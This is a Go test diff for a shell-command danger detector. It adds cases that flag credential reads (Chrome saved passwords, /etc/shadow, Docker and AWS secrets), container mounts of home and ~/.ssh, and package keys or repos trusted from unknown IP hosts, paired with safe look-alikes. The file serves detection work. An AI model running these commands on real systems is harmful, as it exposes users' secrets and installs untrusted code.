@@ -203,3 +203,42 @@ func TestPrivilegeClasses(t *testing.T) {
 		"chmod +x /usr/local/bin/mytool",
 	})
 }
+
+// Any program that dumps or queries a credential file prints the secret.
+func TestSecretQueried(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`sqlite3 "$HOME/.config/google-chrome/Default/Login Data" 'select origin_url, username_value, password_value from logins'`, CategoryExfiltration, "", LevelModerate},
+		{"sudo unshadow /etc/passwd /etc/shadow > hashes.txt", CategoryExfiltration, "", LevelModerate},
+		{"jq -r .auths ~/.docker/config.json", CategoryExfiltration, "", LevelModerate},
+		{"grep aws_secret ~/.aws/credentials", CategoryExfiltration, "", LevelModerate},
+	})
+	checkSafe(t, d, testCtx, []string{
+		"sqlite3 data/dev.db 'select count(*) from users'",
+		"grep -rn TODO ~",
+		"jq .version package.json",
+		"grep -c processor /proc/cpuinfo",
+	})
+}
+
+// Containers given the home directory or credentials, and package
+// sources trusted from unknown hosts.
+func TestContainerMountsAndPackageSources(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`docker run -v "$HOME":/data xyz123/backup-tool`, CategoryPrivilege, "", LevelHigh},
+		{`podman run --rm -v ~/.ssh:/keys alpine ls /keys`, CategoryPrivilege, "", LevelHigh},
+		{`docker run --mount type=bind,source=/home,target=/h img`, CategoryPrivilege, "", LevelHigh},
+		{"helm repo add sketchy http://203.0.113.12/charts && helm install pwn sketchy/agent", CategoryRemoteExec, "", LevelHigh},
+		{"curl -s https://203.0.113.33/key.gpg | sudo apt-key add -", CategoryRemoteExec, "", LevelHigh},
+		{"sudo add-apt-repository 'deb http://203.0.113.33/apt stable main'", CategoryRemoteExec, "", LevelHigh},
+		{"sudo rpm --import http://198.51.100.4/RPM-GPG-KEY", CategoryRemoteExec, "", LevelHigh},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`docker run --rm -v "$PWD":/src -w /src golang:1.22 go test ./...`,
+		`docker run --rm -v "$PWD/docs":/docs squidfunk/mkdocs-material build`,
+		"helm repo add bitnami https://charts.bitnami.com/bitnami",
+		"sudo add-apt-repository ppa:deadsnakes/ppa",
+		"curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
+	})
+}
